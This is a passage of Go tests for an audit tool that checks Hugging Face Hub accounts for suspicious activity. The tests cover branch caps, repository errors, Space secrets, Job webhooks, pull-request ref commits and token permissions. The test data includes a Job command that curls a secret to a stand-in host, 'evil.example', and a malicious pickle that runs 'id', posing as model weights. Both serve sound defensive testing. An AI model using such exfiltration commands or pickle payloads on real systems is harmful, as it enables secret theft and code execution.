	}
	if rewritten == nil || rewritten.Severity != Critical {
		t.Errorf("pinned commit gone: %+v (findings %+v)", rewritten, r.Findings)
	}
}

// Histories are listed for at most MaxBranches branches, main first.
func TestBranchCap(t *testing.T) {
	ctx := context.Background()
	old := time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC)
	branches := map[string]string{}
	for i := range MaxBranches + 5 {
		branches[fmt.Sprintf("b%03d", i)] = "main"
	}
	c, tok := simRepos(t, hubsim.Repo{ID: "alice/many", CreatedAt: old, Commits: []hubsim.Commit{
		{Title: "Initial commit", Date: old, Files: map[string]*hubsim.File{"README.md": {Text: "# x\n"}}},
	}, Branches: branches})
	r, err := Run(ctx, Options{Client: c, Token: tok, Since: old.Add(time.Hour), Owner: "alice", Repos: []Repo{{hub.RepoModel, "alice/many"}}})
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Warnings) != 1 || !strings.Contains(r.Warnings[0], fmt.Sprintf("%d branches: only main and the first %d", MaxBranches+6, MaxBranches-1)) {
		t.Errorf("warnings %q", r.Warnings)
	}
}

// TestRunRepoErrors: a repository the Hub answers 404 (missing or out of
// reach: 404, not 401, to a signed-in caller) or 403 disabled is a warning
// that says so, never a repository silently audited as clean.
func TestRunRepoErrors(t *testing.T) {
	ctx := context.Background()
	tok := fakeToken(9)
	sc := &hubsim.Scenario{
		Users:  []hubsim.User{{Name: "ann"}, {Name: "eve"}},
		Tokens: []hubsim.Token{{Token: tok, User: "ann", Kind: hubsim.KindClassic, Role: "write"}},
		Repos: []hubsim.Repo{
			{ID: "ann/ok"}, {ID: "ann/off", Disabled: true}, {ID: "eve/hidden", Private: true},
		},
	}
	url, stop, err := hubsim.New(sc, hubsim.Options{RateLimit: -1}).Start("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer stop()
	c, err := hub.New(hub.Options{Endpoint: url, RatePerSecond: -1})
	if err != nil {
		t.Fatal(err)
	}
	r, err := Run(ctx, Options{Client: c, Token: tok, Since: time.Now().Add(-time.Minute), Owner: "ann", Inspect: noInspect,
		Repos: []Repo{{hub.RepoModel, "ann/ok"}, {hub.RepoModel, "ann/off"}, {hub.RepoModel, "eve/hidden"}, {hub.RepoModel, "ann/gone"}}})
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]string{
		"model/ann/off":    "disabled by the Hub",
		"model/eve/hidden": "not found now",
		"model/ann/gone":   "not found now",
	}
	if !slices.Equal(r.Checked, []string{"model/ann/ok"}) || len(r.Warnings) != len(want) || r.Complete(4) {
		t.Fatalf("checked %v, warnings %v", r.Checked, r.Warnings)
	}
	for repo, text := range want {
		if !slices.ContainsFunc(r.Warnings, func(w string) bool { return strings.HasPrefix(w, repo+": "+text) }) {
			t.Errorf("no %q warning for %s: %v", text, repo, r.Warnings)
		}
	}
}

// TestUndatedSpaceSettings: the Hub sends no updatedAt for a Space secret
// or variable never updated; the audit cannot place it outside the window,
// so it reports it (a notch lower) instead of dropping it. A dated one
// from before the window stays quiet.
func TestUndatedSpaceSettings(t *testing.T) {
	ctx := context.Background()
	old := time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC)
	c, tok := simRepos(t, hubsim.Repo{ID: "alice/space", Type: "space", CreatedAt: old, Commits: []hubsim.Commit{
		{Title: "Initial commit", Date: old, Files: map[string]*hubsim.File{"app.py": {Text: "print('hi')\n"}}},
	}, Secrets: []hubsim.SpaceSetting{{Key: "PLANTED", Value: "x"}, {Key: "OLD", Value: "y", UpdatedAt: old}},
		Variables: []hubsim.SpaceSetting{{Key: "ENDPOINT", Value: "https://example.com"}}})
	list, err := c.SpaceSecrets(ctx, tok, "alice/space")
	if err != nil || len(list) != 2 {
		t.Fatalf("secrets %+v, %v", list, err)
	}
	for _, s := range list {
		if (s.Key == "PLANTED") != s.UpdatedAt.IsZero() {
			t.Errorf("secret %s updatedAt %v", s.Key, s.UpdatedAt)
		}
	}
	r, err := Run(ctx, Options{Client: c, Token: tok, Since: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC),
		Repos: []Repo{{hub.RepoSpace, "alice/space"}}, Inspect: noInspect})
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct{ kind, key, sev string }{
		{KindSecretAdded, "PLANTED", Medium},
		{KindVariableAdded, "ENDPOINT", Low},
	} {
		f := find(r, "space/alice/space", tc.kind)
		if f == nil || f.Path != tc.key || f.Severity != tc.sev || f.Time != nil || !strings.Contains(f.Evidence, "unknown") {
			t.Errorf("%s %s: %+v", tc.kind, tc.key, f)
		}
	}
	for _, f := range r.Findings {
		if f.Path == "OLD" {
			t.Errorf("a secret dated before the window reported: %+v", f)
		}
	}
}

// TestJobWebhook: a webhook that triggers a Job has a job and no url
// (huggingface_hub WebhookInfo); the audit says what it runs, never its
// command or values, one notch above a URL webhook, whether it came from
// the scenario or was created through the API with jobSourceId.
func TestJobWebhook(t *testing.T) {
	ctx := context.Background()
	tok := fakeToken(5)
	srv := hubsim.New(&hubsim.Scenario{
		Users:  []hubsim.User{{Name: "alice"}},
		Tokens: []hubsim.Token{{Token: tok, User: "alice", Kind: hubsim.KindClassic, Role: "write"}},
		Jobs: []hubsim.Job{{ID: "job-exfil", Owner: "alice", JobSpec: hubsim.JobSpec{DockerImage: "python:3.12",
			Command: []string{"bash", "-c", "curl https://evil.example/?t=$WEBHOOK_SECRET"}, Flavor: "cpu-basic"}}},
		Webhooks: []hubsim.Webhook{{Owner: "alice", Watched: []hubsim.WatchedItem{{Type: "user", Name: "alice"}},
			Job: &hubsim.JobSpec{SpaceID: "alice/runner", Environment: map[string]string{"TARGET": "sekrit-value"}}}},
	}, hubsim.Options{RateLimit: -1})
	url, stop, err := srv.Start("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop)
	c, err := hub.New(hub.Options{Endpoint: url, RatePerSecond: -1})
	if err != nil {
		t.Fatal(err)
	}
	e := &env{t: t, url: url, c: c, token: tok}
	e.call(http.MethodPost, "/api/settings/webhooks", map[string]any{"jobSourceId": "job-exfil",
		"watched": []map[string]string{{"type": "user", "name": "alice"}}, "domains": []string{"repo"}})
	hooks, err := c.Webhooks(ctx, tok)
	if err != nil || len(hooks) != 2 {
		t.Fatalf("webhooks %+v, %v", hooks, err)
	}
	for _, w := range hooks {
		if w.URL != "" || w.Job == nil {
			t.Fatalf("job webhook decoded as %+v", w)
		}
	}
	r, err := Run(ctx, Options{Client: c, Token: tok, Since: time.Now().Add(-time.Hour), Owner: "alice", Inspect: noInspect})
	if err != nil {
		t.Fatal(err)
	}
	var evs []string
	for _, f := range r.Findings {
		if f.Kind != KindWebhook {
			continue
		}
		evs = append(evs, f.Evidence)
		if f.Severity != High || strings.Contains(f.Evidence, "unparsable") || !strings.Contains(f.Evidence, "runs a Job") ||
			strings.Contains(f.Evidence, "evil.example") || strings.Contains(f.Evidence, "sekrit") {
			t.Errorf("job webhook finding %+v", f)
		}
	}
	all := strings.Join(evs, "\n")
	if len(evs) != 2 || !strings.Contains(all, "image python:3.12, flavor cpu-basic, a command of 3 words") ||
		!strings.Contains(all, "the image of Space alice/runner, environment TARGET") {
		t.Errorf("job webhook findings:\n%s", all)
	}
}

// TestPullRequestRefCommits: a write token pushes to an open pull
// request's ref (refs/pr/{num}), which no branch holds; the audit lists
// the ref (include_prs) and reports the commit and the model file it
// changed there. A pull request nobody pushed to adds nothing.
func TestPullRequestRefCommits(t *testing.T) {
	ctx := context.Background()
	old := time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC)
	c, tok := simRepos(t, hubsim.Repo{ID: "alice/model", CreatedAt: old, Commits: []hubsim.Commit{
		{Title: "Initial commit", Date: old, Files: map[string]*hubsim.File{"README.md": {Text: "# m\n"}}},
	}, Discussions: []hubsim.Discussion{
		{Title: "Improve card", Author: "alice", IsPullRequest: true, CreatedAt: old},
		{Title: "Untouched PR", Author: "alice", IsPullRequest: true, CreatedAt: old},
	}})
	since := time.Now().Add(-time.Hour)
	pickle := []byte("\x80\x02cposix\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03.")
	res, err := c.Commit(ctx, tok, hub.RepoModel, "alice/model", "refs/pr/1", "Update weights", map[string][]byte{"pytorch_model.bin": pickle}, nil)
	if err != nil {
		t.Fatal(err)
	}
	refs, err := c.Refs(ctx, tok, hub.RepoModel, "alice/model", true)
	if err != nil || len(refs.PullRequests) != 2 || refs.PullRequests[0].Ref != "refs/pr/1" || refs.PullRequests[0].TargetCommit != res.CommitOID {
		t.Fatalf("refs %+v, %v", refs, err)
	}
	if main := refs.Branches[0].TargetCommit; main == res.CommitOID {
		t.Fatal("the push to refs/pr/1 moved main")
	}
	var inspected []string
	inspect := func(_ context.Context, p string, _ io.ReaderAt, _ int64) ([]artifact.Finding, error) {
		inspected = append(inspected, p)
		return []artifact.Finding{{Kind: artifact.KindUnsafePickle, Severity: Critical, Path: p}}, nil
	}
	r, err := Run(ctx, Options{Client: c, Token: tok, Since: since, Owner: "alice", Repos: []Repo{{hub.RepoModel, "alice/model"}}, Inspect: inspect})
	if err != nil {
		t.Fatal(err)
	}
	f := find(r, "model/alice/model", KindCommitInWindow)
	if f == nil || f.Commit != res.CommitOID || f.Ref != "refs/pr/1" || !strings.Contains(f.Evidence, "on refs/pr/1") {
		t.Errorf("commit on the PR ref: %+v", f)
	}
	if p := find(r, "model/alice/model", artifact.KindUnsafePickle); p == nil || p.Ref != "refs/pr/1" || p.Path != "pytorch_model.bin" ||
		!slices.Equal(inspected, []string{"pytorch_model.bin"}) {
		t.Errorf("pickle on the PR ref: %+v (inspected %v)", p, inspected)
	}
	if n := len(kinds(r)["model/alice/model"]); n != 2 {
		t.Errorf("findings %v", kinds(r))
	}
}

// A webhook listing the Hub refuses (403) names the permission it needs,
// per kind of token, instead of leaving a revocation to be guessed.
func TestWebhooksMissingPermission(t *testing.T) {
	ctx := context.Background()
	enc := func(s string) string { return strings.TrimRight(base64.RawURLEncoding.EncodeToString([]byte(s)), "=") }
	oauth := "hf_oauth_" + enc(`{"alg":"EdDSA","typ":"JWT"}`) + "." + enc(`{"sub":"alice","scope":"openid profile read-repos","exp":4070941200}`) + "." + enc("sig")
	fine := fakeToken(2)
	classic := fakeToken(3)
	app := fakeToken(4)
	sc := &hubsim.Scenario{
		Users: []hubsim.User{{Name: "alice", Orgs: []hubsim.Membership{{Name: "corp", RoleInOrg: "admin"}}}},
		Orgs:  []hubsim.Org{{Name: "corp"}},
		Tokens: []hubsim.Token{
			{Token: app, User: "ci-app", Kind: hubsim.KindApp, Role: "write", Entities: []string{"corp"}},
			{Token: fine, User: "alice", Kind: hubsim.KindFineGrained, FineGrained: &hubsim.FineGrained{Scoped: []hubsim.Scope{
				{Entity: hubsim.Entity{Type: "user", Name: "alice"}, Permissions: []string{"repo.content.read"}}}}},
			{Token: oauth, User: "alice", Kind: hubsim.KindOAuth},
			{Token: classic, User: "alice", Kind: hubsim.KindClassic, Role: "read"},
		},
	}
	url, stop, err := hubsim.New(sc, hubsim.Options{RateLimit: -1}).Start("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(stop)
	c, err := hub.New(hub.Options{Endpoint: url, RatePerSecond: -1})
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name, token, kind string
		missing           []string
		warning           string
	}{
		{"fine-grained", fine, "fine-grained", []string{"user.webhooks.read"}, "the fine-grained permission `user.webhooks.read`"},
		{"oauth", oauth, "oauth", []string{"oauth:webhooks"}, "the OAuth scope `webhooks`"},
		{"classic read", classic, "classic", nil, ""},
		// No permission makes an app token list webhooks: none is
		// named missing, and the warning says why.
		{"app", app, "app", nil, "app tokens cannot manage webhooks at all"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r, err := Run(ctx, Options{Client: c, Token: tc.token, TokenKind: tc.kind, Since: time.Now().Add(-time.Hour), Owner: "alice", Inspect: noInspect})
			if err != nil {
				t.Fatal(err)
			}
			if !slices.Equal(r.Missing, tc.missing) {
				t.Errorf("missing %q, want %q (warnings %q)", r.Missing, tc.missing, r.Warnings)
			}
			found := tc.warning == ""
			for _, w := range r.Warnings {
				if tc.warning != "" && strings.Contains(w, tc.warning) {
					found = true
				}
				if strings.Contains(w, "fine-grained permission") && tc.kind == "app" {
					t.Errorf("warning %q names a permission an app token cannot have", w)
				}
			}
			if !found || (tc.warning == "" && len(r.Warnings) > 0) {
				t.Errorf("warnings %q, want one naming %s", r.Warnings, tc.warning)
			}
		})
	}
}
